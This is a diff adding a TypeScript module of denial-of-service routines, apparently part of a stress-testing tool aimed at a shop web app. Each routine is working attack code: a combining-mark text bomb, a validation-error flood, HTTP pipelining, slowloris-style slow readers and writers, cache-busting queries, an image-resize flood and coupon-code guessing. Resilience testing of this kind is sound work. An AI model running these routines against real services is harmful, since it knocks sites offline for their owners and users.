@@ -1,0 +1,55 @@
+import { randomUUID } from 'node:crypto'
+import { holdConnections, keepAsking } from './asking.ts'
+import { type Attack, wire } from './attacker.ts'
+
+const order = '/en/api/orders'
+
+/** A letter with 110,000 marks in two classes that alternate: composing it takes time in the square of that. */
+const marks = JSON.stringify({ name: `a${'\u0301\u0316'.repeat(55_000)}` })
+/** 8,000 sizes of which everything is wrong. */
+const faults = JSON.stringify({
+  products: Array.from({ length: 40 }, () => ({ colors: [{ sizes: Array(200).fill({ size_id: 'x' }) }] })),
+})
+
+/** What one address sends, by name. */
+export const attacks = {
+  'mark-bomb': (shop, signal) =>
+    keepAsking(shop, signal, { connections: 4, next: () => wire('POST', order, marks) }),
+  'fault-bomb': (shop, signal) =>
+    keepAsking(shop, signal, { connections: 4, next: () => wire('POST', order, faults) }),
+  pipelined: (shop, signal) =>
+    holdConnections(shop, signal, 4, (socket) => {
+      socket.pause()
+      socket.write(wire('GET', '/en').repeat(1_000))
+    }),
+  'slow-readers': (shop, signal) =>
+    holdConnections(shop, signal, 2_000, (socket) => {
+      socket.pause()
+      socket.write(wire('GET', '/en').repeat(60))
+    }),
+  'slow-writers': (shop, signal) =>
+    holdConnections(shop, signal, 2_000, (socket) => {
+      socket.write('GET / HTTP/1.1\r\nHost: sh')
+      const bytes = setInterval(() => socket.write('o'), 500)
+      socket.once('close', () => clearInterval(bytes))
+    }),
+  'query-strings': (shop, signal) => {
+    const paths = ['/en/product/1?x=', '/en/shop?search=', '/en?utm_source=', '/en/blogs?search=']
+    let at = 0
+    const next = () => wire('GET', `${paths[at++ % paths.length]}${randomUUID()}`)
+    return keepAsking(shop, signal, { connections: 10, rest: 200, next })
+  },
+  'picture-sizes': (shop, signal) => {
+    let at = 0
+    const next = () => wire('GET', shop.pictures[at++ % shop.pictures.length] ?? '/media/')
+    return keepAsking(shop, signal, { connections: 600, next })
+  },
+  'limited-call': (shop, signal) =>
+    keepAsking(shop, signal, {
+      connections: 100,
+      next: () => wire('GET', '/en/api/coupon?coupon_code=GUESS'),
+    }),
+} as const satisfies Record<string, Attack>
+
+export type AttackName = keyof typeof attacks
+export const attackNames = Object.keys(attacks).filter((name): name is AttackName => name in attacks)
